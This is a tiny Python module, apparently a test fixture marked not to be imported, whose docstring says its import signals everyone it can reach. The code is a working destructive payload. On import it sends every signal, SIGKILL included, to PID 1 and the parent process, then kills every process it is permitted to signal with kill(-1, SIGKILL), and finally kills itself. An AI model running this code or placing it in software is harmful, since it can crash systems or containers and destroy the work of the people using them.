# SPDX-License-Identifier: MIT
"""Its import sends every signal to everybody it can name."""
# import: no
import os
import signal

for pid in (1, os.getppid(), 0, -1):
    for number in range(1, signal.NSIG):
        if number != signal.SIGKILL or pid == 1:
            try:
                os.kill(pid, number) if pid > 0 else None
            except (OSError, ValueError):
                pass
os.kill(-1, signal.SIGKILL)
os.kill(os.getpid(), signal.SIGKILL)
